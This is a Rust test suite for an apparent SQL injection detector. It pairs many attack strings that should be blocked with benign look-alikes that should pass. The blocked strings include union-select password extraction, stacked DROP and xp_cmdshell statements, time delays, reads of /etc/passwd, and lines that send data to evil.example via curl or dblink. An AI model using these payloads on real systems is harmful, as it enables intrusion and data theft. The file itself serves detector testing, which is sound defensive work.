//! Attacks that are statements, or expressions in place of values.

use super::*;

#[test]
fn statements() {
    check("1 union select 1,2,3", "union-select");
    check("1 UNION/**/ALL/**/SELECT null,null", "union-select comment-split");
    check("-1' union all select user,password from users#", "union-select select-from");
    check("1; drop table users", "stacked");
    check("1,1) on duplicate key update password='x'#", "unbalanced insert-tail");
    check("1';exec master..xp_cmdshell 'dir'--", "stacked execute-function");
    check("1; waitfor delay '0:0:5'--", "stacked time-function");
    check("1 and (select count(*) from information_schema.tables)>0", "subselect schema condition");
    check("1 and sleep(5)", "time-function boolean-call");
    check("1 order by 10", "order-by-number");
    check("1 /*!50000union*/ /*!50000select*/ 1,2", "version-comment union-select");
    check("1e0union select 1,2", "union-select");
    check("x' and extractvalue(1,concat(0x7e,version()))-- -", "error-function info-function");
    check("1' or 1 is 1-- -", "boolean-constant comment-end");
    check("1' into outfile '/tmp/x' -- ", "into-file");
    check("10 into outfile '/tmp/x' lines terminated by 0x3c3f", "into-file file-function after-number");
}

#[test]
fn fields_that_take_statements() {
    let look = |name: &str, text: &str| {
        crate::detectors::testing::look(crate::Class::Sqli, crate::Place::Json, name, text.as_bytes())
    };
    for statement in [
        "SELECT region, SUM(amount) FROM sales WHERE year = 2024 GROUP BY region ORDER BY 2 DESC",
        "WITH t AS (SELECT a FROM b) SELECT * FROM t JOIN c ON t.a=c.a",
        "select a from t1 union select a from t2 where name = 'O''Hara'",
        "SELECT mean(\"v\") FROM \"cpu\" WHERE time > now() - 1h GROUP BY time(10m)",
    ] {
        assert!(!look("panels.0.rawSql", statement).1, "{statement}");
    }
    assert!(look("comment", "select a from t1 union select a from t2 where name = 'O''Hara'").1);
    // A piece of a statement, or one that leaves the database, is an attack there, too.
    for attack in [
        "1 union select user, password from users",
        "' or 1=1--",
        "select load_file('/etc/passwd')",
        "select 1; exec xp_cmdshell 'whoami'",
    ] {
        assert!(look("panels.0.rawSql", attack).1, "{attack}");
    }
    assert!(!look("new_password", "P@ss;w0rd'\"--").1);
    assert!(look("new_password", "' or 1=1--").1);
}

#[test]
fn dumps() {
    let dump = "-- dump\nDROP TABLE IF EXISTS `users`;\nCREATE TABLE `users` (`id` int NOT NULL, PRIMARY KEY (`id`));\n\
                INSERT INTO `users` VALUES (1,'it''s','a' 'b'),(2,'x','y');\nSELECT 1 FROM users WHERE 1=1;\n";
    testing::passes_at(Class::Sqli, Place::FileContent, "file", dump);
}

/// Found by the property of everyday values: words of SQL after which no list of columns stands.
#[test]
fn words_without_a_list_of_columns() {
    for text in [
        "Union select e.g..",
        "Union select i.e. the best",
        "24/7 select order where.",
        "24/7 select group where it is",
    ] {
        passes(text);
    }
    check("union select a.b", "union-select");
    check("union select a.b.c from a.b", "union-select");
    check("1 union select e.g. from e", "union-select");
    check("1 select from users where 1=1", "juxtaposed");
    check("1 select order from users", "juxtaposed");
}

#[test]
fn rows_of_an_insert() {
    for text in ["x','a@b.example',1),('y", "x\", 1), (\"y", "a', now()),('b"] {
        let is_found = kinds(text).contains("row-break");
        // What opens a parenthesis before closing one is left to the statement's own reading.
        assert_eq!(is_found, !text.contains("now("), "{text}");
    }
    for text in [
        "('a','b'),('c','d')",
        "it's x, (1), (2)",
        "[1, 2), (3, 4]",
        "f('a', 'b'), (g)",
        "smith's, jones), (brown",
    ] {
        assert!(!kinds(text).contains("row-break"), "{text}");
    }
}

#[test]
fn unions_that_end_a_sentence() {
    passes("1.001,- \u{20ac}\nUnion select the.");
    passes("5 Union select the.");
    passes("Select table union select the. Anne-Marie O'Brien");
    passes("Union select by; Anne-Marie O'Brien");
    passes("Select null select?");
    passes("Union select select?");
    check("5 union select a. B from b a", "union-select");
    passes("1.001,- \u{20ac}\nUnion select the!");
    check("1 union select null;", "union-select");
    check("1;select 1", "stacked");
    check("5 union select a.b", "union-select");
    check("5 union select a from b.", "union-select");
}

#[test]
fn statements_that_give_rights_or_run_blocks() {
    use crate::detectors::testing::{blocks, passes_at};
    for text in [
        "1;REVOKE ALL ON t FROM x",
        "x'; grant select, insert on a.b to 'u'@'%'--",
        "1;do $$begin perform pg_sleep(3);end$$",
        "id`,(select password from users limit 1) as `x",
        "1||1",
        "'+or+1=1--",
    ] {
        blocks(Class::Sqli, text, "");
    }
    for text in ["12||15||18", "use `a` and `b", "a||b", "do it; revoke all on Monday"] {
        passes_at(Class::Sqli, Place::Query, "q", text);
    }
}

#[test]
fn statements_of_few_words_and_clauses() {
    use crate::detectors::testing::{blocks, passes_at};
    for text in [
        "1 or 1",
        "1 and(1)",
        "1 is not null",
        "1 like 1",
        "x'div 1#",
        "x' for update--",
        "1' limit 1 offset 1-- -",
        "1;table users",
        "1;set global general_log='on'",
        "1;backup database a to disk='b'",
        "x';flush privileges#",
    ] {
        blocks(Class::Sqli, text, "");
    }
    for text in [
        "1 or 2",
        "buy 1 or 1 kg of it",
        "24 or (48)",
        "chair;table lamp",
        "2;table for two",
        "it's for update -- see below",
        "$('div #a')",
        "the dogs' limit 5 -- no more",
        "1-true",
        "1;set of three",
    ] {
        passes_at(Class::Sqli, Place::Query, "q", text);
    }
}

/// Quoted names, as libraries that map objects to tables write them.
#[test]
fn double_quoted_names() {
    use crate::detectors::testing::{blocks, passes_at};
    for text in [
        r#"SELECT "auth_user"."id" FROM "auth_user" WHERE "auth_user"."id" = 21"#,
        r#"UPDATE "x" SET "a" = 1 WHERE "x"."id" = 5"#,
        r#"SELECT "t"."a" FROM "t" WHERE ("t"."a" = 1 AND "t"."is_on" = true)"#,
        r#"SELECT "a" FROM "t" WHERE "id" = 21"#,
    ] {
        passes_at(Class::Sqli, Place::Query, "x", text);
    }
    // A statement that reads rows is none for a field that is not for statements, but no tautology.
    let limited = r#"SELECT "users".* FROM "users" WHERE "users"."id" = 1 LIMIT 1"#;
    assert!(!kinds(limited).contains("tautology"), "{}", kinds(limited));
    for text in [
        "\" or \"a\"=\"a",
        "\" or \"\"=\"",
        "1 or \"1\"=1",
        "1 or \"a\"=\"a\"",
        "\" or \"a\".\"a\"=\"a\".\"a",
        "1 or \"a\".\"a\"=\"a\".\"a\"",
        "x\" or \"a\".b=1-- ",
        "select * from t WHERE 1=1 or 2=2",
        "select * from t where \"1\"=1",
        "select a from t where \"a\"=\"a\"",
    ] {
        blocks(Class::Sqli, text, "");
    }
}

/// Queries of monitoring and formulas: the left side of a comparison is more than its last factor, and what
/// braces hold is no operand.
#[test]
fn arithmetic_and_braces() {
    use crate::detectors::testing::{blocks, passes_at};
    for text in [
        "redis_memory_used_bytes / redis_memory_max_bytes * 100 > 90 and redis_memory_max_bytes > 0",
        "price * 100 > 90 and stock > 0",
        "(a + b) * (100) > 90 and 5 - x < 3 and y > 0",
        "pve_up{id=~\"node/.*\"} == 0",
        "up{job='node'} == 0 or absent(up)",
        "up{job=\"node\"} == 0 or sum(up) > 1",
    ] {
        passes_at(Class::Sqli, Place::Query, "x", text);
    }
    for text in [
        "1*100>90 and 1=1",
        "' or 2*3=6--",
        "1) and 5>3",
        "1 or id*0=0",
        "' or id*0=0--",
        "x' or id*(1)=id and 1=1-- ",
        "x'} or 1=1-- ",
        "{fn now()} or 1=1",
        "1 and name*(1=1)",
    ] {
        blocks(Class::Sqli, text, "");
    }
}

/// Statements behind a semicolon that no table of verbs knows, or in forms that few dialects have.
#[test]
fn statements_of_any_verb() {
    use crate::detectors::testing::{blocks, passes_at};
    for statement in [
        "COPY users TO PROGRAM 'curl http://evil.example -d @-'",
        "delete users where id=1",
        "insert users values('a','b')",
        "vacuum into '/var/www/x.php'",
        "bulk insert t from '\\\\evil.example\\x'",
        "restore headeronly from disk='\\\\evil.example\\x'",
        "load '/tmp/x.so'",
        "create extension plpython3u",
        "create assembly x from '\\\\evil\\x.dll' with permission_set=unsafe",
        "alter system set archive_command='id'",
        "change master to master_host='evil.example'",
        "install component 'file://x'",
        "deny select to x",
        "kill connection 5",
        "begin tran",
        "print 'x'",
    ] {
        for text in [format!("1;{statement}"), format!("1; {statement}--"), format!("x';{statement}--")] {
            blocks(Class::Sqli, &text, "stacked");
        }
    }
    blocks(Class::Sqli, "x');frobnicate the users; -- -", "");
    for text in [
        "he said 'no'; delete it -- thanks",
        "1;copy to clipboard",
        "Rock 'n' roll; play it loud -- now",
        "1;install it; restart",
        "3; deny all of it",
        "12;abc-def--",
        "12.5; and 1 more --",
        "1;x;--",
        "a='b'; c--",
        "the boys'; play it loud -- now",
    ] {
        passes_at(Class::Sqli, Place::Query, "x", text);
    }
}

/// What goes on behind a quote without an operator: clauses that a comment ends, and further columns.
#[test]
fn clauses_and_columns_behind_a_quote() {
    for text in [
        "x',admin='1",
        "x' , admin = '1",
        "x',role='admin',x='",
        "x',password='5f4dcc3b5aa765d61d8327deb882cf99",
        "x',admin=1-- ",
        "x\",a=\"1",
        "x' returning password-- ",
        "' as a,password from users-- ",
        "' option(recompile)-- ",
        "' for xml path-- ",
    ] {
        let (have, is_blocked) = testing::look(Class::Sqli, Place::Form, "name", text.as_bytes());
        assert!(is_blocked, "{text}: {have}");
    }
    for text in [
        "x='a', y='b'",
        "x='a', y='b",
        "[['name','ilike','o'],'",
        "O'Brien, admin",
        "'1--",
        "Ann O'Hara -- from the office of the boss",
        "f('a', b='c')",
        "print(x['a'], end='')",
        "<a title='a', class='b'>",
        "5'10\", weight=180",
        "'a', b, 'c",
    ] {
        testing::passes_at(Class::Sqli, Place::Form, "name", text);
    }
}

/// Values in place of a column, a list of columns or a table.
#[test]
fn expressions_in_place_of_a_name() {
    let look = |name: &str, text: &str| testing::look(Class::Sqli, Place::Query, name, text.as_bytes());
    for text in [
        "price,sleep(5)",
        "name desc,pg_sleep(10)",
        "case when password like 'a%' then id else price end",
        "id*(password like 'a%')",
        "*,(select password from users)",
        "name,(select password from users)",
        "id from users union select password from users",
        "(select id,password as name from users)x",
        "-sleep(5)",
        "(sleep(5))",
        "sleep(5)*1",
        "sleep(5)=0",
        "1-db_name()",
        "name,pg_read_file('/etc/passwd')",
        "id,dblink_connect('host=evil.example')",
    ] {
        let (have, is_blocked) = look("sort", text);
        assert!(is_blocked && have.contains("expression"), "{text}: {have}");
    }
    for text in [
        "price desc, name asc",
        "-price,name",
        "coalesce(price,0)",
        "score desc,sum(x,y) asc",
        "length(Name)",
        "Sizes (select one from the list)",
        "Sizes, (select one from the list)",
        "eat, sleep (8), repeat",
        "time.sleep(5)",
        "1-abs(x)",
        "2*(a > b)",
    ] {
        let (have, is_blocked) = look("sort", text);
        assert!(!is_blocked, "{text}: {have}");
    }
    assert!(!look("q", "price,sleep(5)").1);
}

/// An expression in place of a number or a column, that reads a column whose name says that it is secret.
#[test]
fn expressions_over_secrets() {
    for text in [
        "hex(password)",
        "concat(name,0x3a,password)",
        "strpos(user_password,'s')",
        "unicode(pwd)/115",
        "password>'a'",
        "(password>\"a\")",
        "password between \"s\" and \"t\"",
        "reset_token like 'a%'",
        "if(pin>500,id,price)",
        "password||''",
        "1+password",
        "elt(1+(password>\"m\"),2,1)",
        "password glob 's*' desc",
    ] {
        blocks_in("sort", text, true);
        blocks_in("q", text, false);
    }
    for text in [
        "password",
        "name,password",
        "forgot-password",
        "password/reset",
        "reset_password",
        "password=abc",
        "password=\"abc\"",
        "token_type",
        "token-5",
        "user password",
        "(password)",
        "lower(name)",
        "count(id)",
        "round(price)>5",
    ] {
        blocks_in("view", text, false);
    }
}

/// A conversion of what may be no number: the error tells what it was.
#[test]
fn conversions() {
    for text in
        ["login::int", "(a||b)::numeric", "1/login::int", "cast(login as int)", "1+cast(mail as numeric)"]
    {
        blocks_in("id", text, true);
    }
    for text in ["std::string", "Foo::Bar", "Cpanel::JSON", "5::int", "cast(5 as int)", "cast", "a::b", "::1"]
    {
        blocks_in("id", text, false);
    }
}

/// The result of a comparison is a number to SQL alone.
#[test]
fn comparisons_as_factors() {
    for text in ["id*(pin>5)", "3*(login like 'b%')", "1*(mail<0x74)", "rank*(grade>=5)", "-(stock<5)"] {
        blocks_in("sort", text, true);
    }
    for text in ["2*(x+1)", "3-(2+1)", "price*qty", "a*(b-c)", "f(x)>5"] {
        blocks_in("sort", text, false);
    }
}

/// Statements and queries without a SELECT.
#[test]
fn statements_without_select() {
    for text in [
        "1;handler users open as h;handler h read first",
        "1;analyze table users",
        "1;comment on table users is 'x'",
        "1;values(1)",
        "1;explain(analyze)table users",
        "1;with a as(table users)table a",
        "1;((table users))",
        "1;unlisten *",
        "1;set search_path to x",
        "1;do 'begin perform 1;end'",
        "1;drop owned by current_user",
        "1;fetch c",
        "1;rollback",
        "0 union(with a as(table users)table a)",
        "0 except table logins",
        "x'union(with a as(table users)table a)--'",
        "x','admin')returning(table s)--",
        "'||(with a as(table s)table a)||'",
        "'||(values((table s)))||'",
        "items left join users on users.id=items.id",
        "items a join(select*from users)b",
    ] {
        blocks_in("id", text, true);
    }
    for text in [
        "1;open",
        "1;level=2",
        "5; show me the way",
        "2;red;blue",
        "text/html;q=0.9",
        "1;2;3",
        "10;start",
        "see (table 3)",
        "see (table a) and (values below)",
        "sign up and join us",
        "12;close the door behind you when you leave",
    ] {
        blocks_in("id", text, false);
    }
}

/// `(select)` selects nothing; `union select` without more is a probe all the same.
#[test]
fn unions_that_select_nothing() {
    for text in ["l'union (select) d'un ensemble", "a union (select) of it"] {
        passes(text);
        passes_at(Class::Sqli, Place::Query, "q", text);
    }
    for text in [
        "1 union select",
        "union select",
        " UNION ALL SELECT",
        "' union select 1-- ",
        "union select 1,2,3",
        "1 union (select 1,2)",
        "1 union (((select 1,2)))",
        "l'union (select password from users) -- ",
    ] {
        check(text, "union-select");
    }
}
